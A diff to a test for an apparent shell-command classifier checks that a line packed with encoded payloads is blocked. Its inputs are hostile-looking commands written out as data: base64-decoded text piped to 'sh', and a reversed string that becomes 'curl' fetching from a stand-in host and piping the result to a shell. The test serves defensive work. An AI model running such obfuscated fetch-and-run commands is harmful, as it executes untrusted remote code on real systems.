@@ -132,7 +132,7 @@ def test_empty_ruleset_allows() -> None:
 def test_many_decoded_layers_are_bounded() -> None:
     # 40 separate encoded payloads, each fed to a shell: the work stops at a budget.
     line = "; ".join(["echo aWQ= | base64 -d | sh"] * 10 + [
-        f"echo {i} | rev | sh" for i in range(30)
+        f"echo 'hs | {i}/e.x//:ptth lruc' | rev | sh" for i in range(30)
     ])
     verdict = classify(line)
     assert verdict.action is BLOCK
